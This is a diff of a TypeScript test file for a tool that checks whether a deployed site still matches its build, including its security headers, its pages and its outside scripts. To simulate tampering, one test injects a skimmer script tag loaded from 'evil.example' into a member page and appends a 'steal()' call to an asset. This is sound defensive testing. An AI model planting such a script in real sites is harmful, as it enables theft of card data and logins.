@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { headersOfBuild } from '../../deploy/built-site.ts';
+import { compareSite } from '../../deploy/compare-site.ts';
 import { exampleEnvironment } from '../../deploy/environment.ts';
 import { type Sandbox, startSandbox } from '../../sandbox/sandbox.ts';
 
@@ -69,63 +70,53 @@ function check(...args: string[]): Promise<{ code: number | null; output: string
 const checkSite = (...args: string[]) =>
   check(`${sandbox.addresses.site}/form/member`, '--dist', dist, ...args);
 
-describe('check:deployed', () => {
-  it('ends with 0 for a site that is as built', async () => {
-    const { code, output } = await checkSite();
-    expect(output).toContain('as built (3 pages, 1 files, 2 outside scripts)');
-    expect(code).toBe(0);
-  });
+const differences = async () =>
+  (await compareSite(sandbox.addresses.site, dist, environment, {})).differences.join('\n');
 
-  it('ends with 1 and names a header that is missing, changed or new', async () => {
-    changeHeaders = ({ 'X-Frame-Options': _, ...headers }) => ({
-      ...headers,
-      'Content-Security-Policy': "script-src 'unsafe-inline'",
-      'Set-Cookie': 'a=b',
-    });
-    const { code, output } = await checkSite();
-    expect(code).toBe(1);
-    expect(output).toContain('/form/member: no X-Frame-Options.');
-    expect(output).toContain(
-      "/form/member/callback: Content-Security-Policy is “script-src 'unsafe-inline'”",
-    );
-    expect(output).toContain('Set-Cookie is “a=b”');
+it('a header that is missing, changed or new is a difference', async () => {
+  changeHeaders = ({ 'X-Frame-Options': _, ...headers }) => ({
+    ...headers,
+    'Content-Security-Policy': "script-src 'unsafe-inline'",
+    'Set-Cookie': 'a=b',
   });
+  const found = await differences();
+  expect(found).toContain('/form/member: no X-Frame-Options.');
+  expect(found).toContain("/form/member/callback: Content-Security-Policy is “script-src 'unsafe-inline'”");
+  expect(found).toContain('Set-Cookie is “a=b”');
+});
 
-  it('ends with 1 and shows a script that somebody has added', async () => {
-    const file = join(live, 'member', 'index.html');
-    writeFileSync(
-      file,
-      readFileSync(file, 'utf8').replace('</body>', '<script src="//evil.example/skim.js"></script></body>'),
-    );
-    appendFileSync(join(live, 'assets', 'main-1.js'), ';steal()');
-    const { code, output } = await checkSite();
-    expect(code).toBe(1);
-    expect(output).toContain('the build knows no <script src="//evil.example/skim.js"></script>');
-    expect(output).toContain('/form/assets/main-1.js: the file is not the one that was built.');
-  });
+it('a script that somebody has added is a difference', async () => {
+  const file = join(live, 'member', 'index.html');
+  const injected = '<script src="//evil.example/skim.js"></script>';
+  writeFileSync(file, readFileSync(file, 'utf8').replace('</body>', `${injected}</body>`));
+  appendFileSync(join(live, 'assets', 'main-1.js'), ';steal()');
+  const found = await differences();
+  expect(found).toContain(`the build knows no ${injected}`);
+  expect(found).toContain('/form/assets/main-1.js: the file is not the one that was built.');
+});
 
-  it('ends with 1 when an outside script has changed, until somebody accepts it', async () => {
+describe('check:deployed ends with', () => {
+  it('0 for a site that is as built, and 1 while an outside script has changed and nobody has accepted it', async () => {
     const file = join(folder, 'remembered.json');
-    expect((await checkSite('--remember', file)).code).toBe(0);
+    const first = await checkSite('--remember', file);
+    expect(first).toEqual({
+      code: 0,
+      output: expect.stringContaining('as built (3 pages, 1 files, 2 outside scripts)'),
+    });
     const url = `${sandbox.addresses.gateway}/js/mp-token.js`;
-    writeFileSync(
-      file,
-      JSON.stringify({ ...JSON.parse(readFileSync(file, 'utf8')), [url]: 'sha384-before' }),
-    );
-    const changed = await checkSite('--remember', file);
-    expect(changed.code).toBe(1);
-    expect(changed.output).toContain(`${url} (card gateway): changed, was sha384-before`);
-    expect((await checkSite('--remember', file)).code).toBe(1);
-    await checkSite('--remember', file, '--accept');
+    const remembered = JSON.parse(readFileSync(file, 'utf8'));
+    writeFileSync(file, JSON.stringify({ ...remembered, [url]: 'sha384-before' }));
+    for (const options of [[], ['--accept']])
+      expect(await checkSite('--remember', file, ...options)).toEqual({
+        code: 1,
+        output: expect.stringContaining(`${url} (card gateway): changed, was sha384-before`),
+      });
     expect((await checkSite('--remember', file)).code).toBe(0);
   });
 
-  it('ends with 2 for wrong use and 3 for a site that does not answer', async () => {
+  it('2 for wrong use and 3 for a site that does not answer', async () => {
     expect((await check()).code).toBe(2);
-    expect((await checkSite('--nonsense')).code).toBe(2);
     expect((await check('https://www.example.org', '--dist', join(folder, 'nothing'))).code).toBe(2);
-    const help = await check('--help');
-    expect([help.code, help.output]).toEqual([0, expect.stringContaining('Exit code')]);
     const { code, output } = await check('http://127.0.0.1:9', '--dist', dist);
     expect([code, output]).toEqual([3, expect.stringContaining('gives no answer')]);
   });
